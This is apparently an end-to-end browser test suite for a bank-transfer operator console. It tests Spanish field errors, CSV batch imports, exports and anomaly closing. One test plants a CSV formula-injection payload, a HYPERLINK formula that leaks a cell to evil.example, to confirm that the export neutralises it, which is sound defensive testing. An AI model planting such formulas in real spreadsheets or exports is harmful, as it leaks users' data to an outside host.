import { readFile } from 'node:fs/promises';
import { describeWithChromium, type TestBrowser } from '../support/chromium';
import { FROM_CVU, TO_CBU, transferRequest } from '../support/reconciler-harness';
import { RECONCILER_HOOK_MS } from '../support/reconciler-process';
import { waitUntil } from '../support/wait-until';
import {
  type ConsoleStack,
  goTo,
  screenshot,
  signIn,
  startStackAndBrowser,
  waitShown,
  watchPage,
} from './console-stack';

// The console in Chromium, for an operator: a transfer created from its form (the API's field errors beside the
// fields, a 409 explained in Spanish) and watched to its final status without a reload; a CSV batch previewed,
// confirmed, and sent again to no effect; the current search exported as CSV, a formula in a description
// neutralised; an anomaly found from the dashboard and closed with a note, and a statement's debit no transfer
// explains listed with the anomalies and closed the same way.

/** The Buenos Aires day holding `atMs` (`YYYY-MM-DD`), and as a person in Argentina types it (`dd/mm/aaaa`). */
const buenosAiresDay = (atMs: number) => new Date(atMs - 3 * 3_600_000).toISOString().slice(0, 10);
const typed = (day: string) => day.split('-').reverse().join('/');

const FROM_CUIT = transferRequest().from.owner.personId;
const TO_CUIT = transferRequest().to.owner.personId;

describeWithChromium('the operator console at work (Chromium)', () => {
  let stack: ConsoleStack;
  let browser: TestBrowser;
  let operator: string;

  beforeAll(async () => {
    [stack, browser] = await startStackAndBrowser();
    operator = await stack.createKey('ops', 'operator');
  }, RECONCILER_HOOK_MS);
  afterAll(async () => {
    await browser?.close();
    await stack?.close();
  });

  it('creates a transfer, shows the field errors beside their fields, and follows it to COMPLETED live', async () => {
    const page = await browser.context.newPage();
    const seen = watchPage(page);
    await signIn(page, stack.url, operator);
    await goTo(page, 'new');
    // Only the configured source accounts are offered (SOURCE_ACCOUNTS), the chosen one's holder's CUIT under it.
    await page.getByLabel('Cuenta de origen').selectOption(FROM_CVU);
    // A destination whose check digits are wrong: the API's 400 names `to.address`.
    await page.getByLabel('CBU/CVU de destino').fill(`${TO_CBU.slice(0, 21)}${(Number(TO_CBU[21]) + 1) % 10}`);
    await page.getByLabel('CUIT/CUIL del destinatario').fill(TO_CUIT);
    await page.getByLabel('Importe').fill('1.234,50');
    await page.getByLabel('Descripción').fill('alquiler noviembre');
    await page.getByLabel('originId (opcional)').fill('5101');
    await page.getByRole('button', { name: 'Crear transferencia' }).click();

    const destination = page.getByLabel('CBU/CVU de destino');
    await waitShown(page.getByText('Revisá los campos marcados.'));
    expect(await destination.getAttribute('aria-invalid')).toBe('true');
    const errorId = (await destination.getAttribute('aria-describedby')) ?? '';
    // In Spanish from the violation's rule and params, never the API's English message.
    const explained = await page.locator(`[id="${errorId}"]`).textContent();
    expect(explained).toMatch(
      /^No es un CBU\/CVU válido: el dígito verificador del bloque 2 \(posición 22\) es \d y debería ser \d\.$/,
    );
    expect(await page.getByLabel('Cuenta de origen').getAttribute('aria-invalid')).toBeNull();
    // Nothing is offered that the module would refuse: its one currency, its one source account.
    expect(
      await page.locator('#create-body-currencyId option').evaluateAll((options) => options.map((o) => o.textContent)),
    ).toEqual(['ARS (032)']);
    expect(
      await page.locator('#create-from-address option').evaluateAll((options) => options.map((o) => o.textContent)),
    ).toEqual([FROM_CVU]);
    // The holder's CUIT under the choice, not in it: the select is a third of a laptop wide, the CUIT was cut off.
    await expect(page.locator('#create-from-address-hint').textContent()).resolves.toBe(`CUIT ${FROM_CUIT}`);
    await screenshot(page, 'create-field-error');
    expect((await stack.api('GET', '/admin/transfers/5101')).status).toBe(404);

    // Marked on the window: a reload would lose it, so its survival proves the page never reloaded.
    await page.evaluate('window.__sameDocument = true');
    await destination.fill(TO_CBU);
    await page.getByRole('button', { name: 'Crear transferencia' }).click();
    await waitShown(page.getByRole('heading', { name: /Transferencia 5101/ }));

    await goTo(page, 'transfers');
    const row = page.locator('tr[data-origin-id="5101"]');
    await waitShown(row);
    const firstStatus = (await row.locator('.status').textContent()) ?? '';
    expect(['Pendiente', 'Creada', 'En curso']).toContain(firstStatus);
    expect(await row.locator('.money').textContent()).toBe('$\u00a01.234,50');
    await screenshot(page, 'transfers-live-before');
    await row.locator('.status', { hasText: 'Completada' }).waitFor({ timeout: 20_000 });
    expect(await page.evaluate('window.__sameDocument === true')).toBe(true);
    await screenshot(page, 'transfers-live-completed');
    expect((await stack.api('GET', '/admin/transfers/5101')).json.status).toBe('COMPLETED');

    // The same originId with another amount: the API's 409 names the refusal, which the console says in Spanish.
    await goTo(page, 'new');
    await page.getByLabel('Cuenta de origen').selectOption(FROM_CVU);
    await page.getByLabel('CBU/CVU de destino').fill(TO_CBU);
    await page.getByLabel('CUIT/CUIL del destinatario').fill(TO_CUIT);
    await page.getByLabel('Importe').fill('99');
    await page.getByLabel('Descripción').fill('alquiler noviembre');
    await page.getByLabel('originId (opcional)').fill('5101');
    await page.getByRole('button', { name: 'Crear transferencia' }).click();
    // What the refusal means, without the HTTP status a back office has no use for.
    const refused = await page.getByRole('alert').filter({ hasText: 'originId' }).textContent();
    expect(refused).toBe('El originId 5101 ya se usó con otros datos; no se creó nada.');
    expect((await stack.api('GET', '/admin/transfers/5101')).json.amount).toBe('1234.50');
    expect(seen.errors).toEqual([]);
    await page.close();
  });

  it('previews a CSV batch naming its bad row, sends nothing until confirmed, and nothing twice', async () => {
    const badTo = `${TO_CBU.slice(0, 21)}${(Number(TO_CBU[21]) + 1) % 10}`;
    const csv = [
      'originId,fromAddress,fromCuit,toAddress,toCuit,currencyId,amount,description,concept',
      `5201,${FROM_CVU},${FROM_CUIT},${TO_CBU},${TO_CUIT},032,1500.00,honorarios octubre,HON`,
      `5202,${FROM_CVU},${FROM_CUIT},${TO_CBU},${TO_CUIT},032,2500.50,"alquiler, cochera",ALQ`,
      `5203,${FROM_CVU},${FROM_CUIT},${badTo},${TO_CUIT},032,99.99,cuenta mal escrita,VAR`,
    ].join('\n');
    const file = { name: 'lote-noviembre.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) };
    const page = await browser.context.newPage();
    const seen = watchPage(page);
    await signIn(page, stack.url, operator);
    await goTo(page, 'batch');
    await page.getByLabel('Archivo (CSV o Excel)').setInputFiles(file);
    await page.getByRole('button', { name: 'Vista previa' }).click();

    // The bad row is named by its line in the file (header = 1) and its error by the CSV column.
    const bad = page.locator('tr[data-row="4"]');
    await waitShown(bad);
    expect(await bad.textContent()).toContain('5203');
    expect(await bad.textContent()).toContain('toAddress No es un CBU/CVU válido');
    expect(await page.locator('tr.row-invalid').count()).toBe(1);
    expect(await page.getByRole('status').textContent()).toBe(
      'Para crear: 2 · ya existen: 0 · con errores, en conflicto o sobre un límite: 1.',
    );
    await screenshot(page, 'batch-preview');
    const before = stack.bank.ledger.size;
    for (const originId of [5201, 5202, 5203]) {
      expect((await stack.api('GET', `/admin/transfers/${originId}`)).status).toBe(404);
    }

    await page.getByRole('button', { name: 'Enviar 2 transferencias por $\u00a04.000,50' }).click();
    await waitShown(page.getByText('Creadas: 2 · ya existían: 0 · no creadas: 1.'));
    await screenshot(page, 'batch-sent');
    expect((await stack.api('GET', '/admin/transfers/5201')).json.amount).toBe('1500.00');
    expect((await stack.api('GET', '/admin/transfers/5202')).json.description).toBe('alquiler, cochera');
    expect((await stack.api('GET', '/admin/transfers/5203')).status).toBe(404);
    await waitUntil(
      () => stack.bank.ledger.size === before + 2,
      10_000,
      () => stack.bank.ledger.size,
    );

    // The same file again: the preview says both exist, and the page offers nothing to send.
    const listed = async () => (await stack.api('GET', '/admin/transfers?limit=500', {})).json.items.length;
    const count = await listed();
    // Previewed again as it is, without choosing the file anew: the new preview replaces the last result.
    await page.getByRole('button', { name: 'Vista previa' }).click();
    await waitShown(page.getByText('Para crear: 0 · ya existen: 2 · con errores, en conflicto o sobre un límite: 1.'));
    expect(await page.getByRole('button', { name: 'Nada para enviar' }).isDisabled()).toBe(true);
    await screenshot(page, 'batch-again');
    // And the API, sent the file for real, creates nothing either.
    const again = await stack.api('POST', '/admin/transfers/batch', { key: operator, csv });
    expect(again.status).toBe(200);
    expect(again.json.summary).toMatchObject({ created: 0, replayed: 2, invalid: 1 });
    expect(await listed()).toBe(count);
    expect(stack.bank.ledger.size).toBe(before + 2);
    expect(seen.errors).toEqual([]);
    await page.close();
  });

  it('exports the current search as CSV with a formula in a description neutralised', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"ver factura")';
    for (const [originId, description] of [
      [5301, formula],
      [5302, 'factura 5302 sin fórmula'],
    ] as const) {
      const created = await stack.api('POST', '/admin/transfers', { body: transferRequest({ originId, description }) });
      expect(created.status).toBe(201);
    }
    const page = await browser.context.newPage();
    await signIn(page, stack.url, operator);
    await goTo(page, 'transfers');
    await page.getByLabel('En la descripción').fill('factura');
    // Days are typed day first, whatever the browser's locale; a day that does not exist is named under its field.
    const to = page.getByLabel('Creada hasta (día)');
    await to.fill('31/02/2026');
    await page.getByRole('button', { name: 'Buscar' }).click();
    await waitShown(page.locator('#filter-createdTo-error'));
    expect(await page.locator('#filter-createdTo-error').textContent()).toBe(
      'No es un día válido: escribilo como dd/mm/aaaa.',
    );
    const [yesterday, tomorrow] = [-1, 1].map((days) => buenosAiresDay(Date.now() + days * 86_400_000));
    await page.getByLabel('Creada desde (día)').fill(typed(yesterday));
    await to.fill(typed(tomorrow));
    await page.getByRole('button', { name: 'Buscar' }).click();
    await waitShown(page.locator('tr[data-origin-id="5301"]'));
    expect(new URL(page.url()).hash).toContain(`createdFrom=${yesterday}&createdTo=${tomorrow}`);
    // The form shows the address's days as they were typed, not as the API reads them.
    expect(await page.getByLabel('Creada desde (día)').inputValue()).toBe(typed(yesterday));
    expect(await page.locator('tbody tr').count()).toBe(2);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Exportar CSV' }).click(),
    ]);
    const csv = await readFile(await download.path(), 'utf8');
    await screenshot(page, 'transfers-export');

    const lines = csv.trim().split(/\r?\n/);
    // The header and the two transfers the search found: the export is the search, not every transfer.
    expect(lines).toHaveLength(3);
    const line = lines.find((text) => text.includes('HYPERLINK')) ?? '';
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""ver factura"")"`);
    expect(line).not.toMatch(/(^|,)"?=/);
    expect(csv).toContain('factura 5302 sin fórmula');

    // The same search for Excel in Spanish: `;` between cells, a byte-order mark, decimal commas; and as .xlsx.
    const [excel] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV para Excel' }).click(),
    ]);
    const spanish = await readFile(await excel.path(), 'utf8');
    expect(spanish.startsWith('\uFEFF')).toBe(true);
    expect(spanish.trim().split(/\r\n/)).toHaveLength(3);
    expect(spanish.split(/\r\n/)[0]).toContain(';');
    const [workbook] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Exportar .xlsx' }).click(),
    ]);
    expect(workbook.suggestedFilename()).toMatch(/\.xlsx$/);
    // An .xlsx is a zip: it starts with PK.
    expect((await readFile(await workbook.path())).subarray(0, 2).toString('latin1')).toBe('PK');
    await page.close();
  });

  it('leads from the dashboard to the open anomalies, and closes one with a note', async () => {
    const failed = await stack.api('POST', '/admin/transfers', {
      body: transferRequest({ originId: 5401, description: 'sueldo [reject]' }),
    });
    expect(failed.json.status).toBe('FAILED');
    await stack.contradict(5401, 'COMPLETED', 'the bank says COMPLETED after FAILED');
    const page = await browser.context.newPage();
    const seen = watchPage(page);
    await signIn(page, stack.url, operator);
    await page.getByRole('link', { name: 'Anomalías abiertas: 1' }).click();
    await waitShown(page.getByRole('heading', { name: 'Anomalías' }));
    const row = page.locator('tr[data-anomaly-id]');
    await waitShown(row);
    const cells = await row.locator('td').allTextContents();
    expect(cells.slice(1, 5)).toEqual([
      '5401',
      'Fallida',
      'Completada',
      'El banco respondió «Completada», pero la transferencia ya estaba «Fallida»: no se aplicó.',
    ]);
    await screenshot(page, 'anomalies-open');

    await row.getByLabel('Nota para cerrarla').fill('el banco confirmó que falló');
    await row.getByRole('button', { name: 'Cerrar anomalía' }).click();
    await waitShown(page.getByText('No hay anomalías para mostrar.'));
    await page.getByLabel('Mostrar').selectOption('true');
    await waitShown(page.getByText('Cerrada por ops'));
    expect(await page.locator('tr[data-anomaly-id]').count()).toBe(1);
    const [anomaly] = (await stack.api('GET', '/admin/anomalies?originId=5401')).json.items;
    expect(anomaly.resolution).toMatchObject({ by: { name: 'ops' }, note: 'el banco confirmó que falló' });
    // Closing it changed nothing about the transfer.
    expect((await stack.api('GET', '/admin/transfers/5401')).json.status).toBe('FAILED');
    expect(seen.errors).toEqual([]);
    await page.close();
  });

  it("lists a statement's debit no transfer explains among the anomalies, naming its line, and closes it", async () => {
    const imported = await stack.api('POST', `/admin/statements?account=${FROM_CVU}`, {
      csv: 'date,amount,reference,description\n2026-11-23,-1234.50,CARGO-88,comisión\n',
    });
    expect(imported.json.counts).toMatchObject({ onlyInStatement: 1 });
    const page = await browser.context.newPage();
    const seen = watchPage(page);
    await signIn(page, stack.url, operator);
    await page.getByRole('link', { name: 'Anomalías', exact: true }).click();
    const row = page.locator('tr[data-unknown-debit-id]');
    await waitShown(row);
    const cells = await row.locator('td').allTextContents();
    // No transfer to go to, said so (not a link): the statement's line and account on hover.
    expect(cells.slice(1, 4)).toEqual(['Sin transferencia', '', '']);
    expect(await row.locator('a').count()).toBe(0);
    expect(await row.locator('td').nth(1).locator('[title]').getAttribute('title')).toBe(
      `Línea 2 del extracto de la cuenta ${FROM_CVU}`,
    );
    // The statement's day written as every other day, dd/mm/aaaa.
    expect(cells[4]).toMatch(
      /^El extracto del banco muestra un débito de \$\s1\.234,50 del 23\/11\/2026 \(referencia CARGO-88\) que ninguna transferencia explica\.$/,
    );
    await screenshot(page, 'anomalies-unknown-debit');
    await page.getByLabel('Idioma').selectOption('en');
    await waitShown(row.getByText('No transfer', { exact: true }));
    expect(await row.locator('td').nth(4).textContent()).toMatch(
      /^The bank’s statement shows a debit of ARS\s1,234\.50 on 23\/11\/2026 \(reference CARGO-88\) that no transfer explains\.$/,
    );
    await screenshot(page, 'anomalies-unknown-debit-en');
    await page.getByLabel('Language').selectOption('es');

    // One kind at a time: nothing names another counterparty; the debit is the one without a transfer.
    const kind = page.getByLabel('Tipo');
    expect(await kind.locator('option').allTextContents()).toEqual([
      'Todos los tipos',
      'Otro destinatario',
      'Otro importe en el extracto',
      'Falta en el extracto',
      'Débito sin transferencia',
    ]);
    await kind.selectOption('counterparty_mismatch');
    await waitShown(page.getByText('No hay anomalías para mostrar.'));
    await kind.selectOption('unknown_debit');
    await waitShown(row);
    expect(page.url()).toContain('kind=unknown_debit');
    expect(await page.locator('tr[data-anomaly-id], tr[data-unknown-debit-id]').count()).toBe(1);

    await row.getByLabel('Nota para cerrarla').fill('comisión del banco');
    await row.getByRole('button', { name: 'Cerrar anomalía' }).click();
    await waitShown(page.getByText('No hay anomalías para mostrar.'));
    const resolved: { kind?: string }[] = (await stack.api('GET', '/admin/anomalies?resolved=true')).json.items;
    const debit = resolved.find((anomaly) => anomaly.kind === 'unknown_debit');
    expect(debit).toMatchObject({
      kind: 'unknown_debit',
      statement: { importId: imported.json.id, line: 2, reference: 'CARGO-88' },
      resolution: { by: { name: 'ops' }, note: 'comisión del banco' },
    });
    expect(seen.errors).toEqual([]);
    await page.close();
  });
});
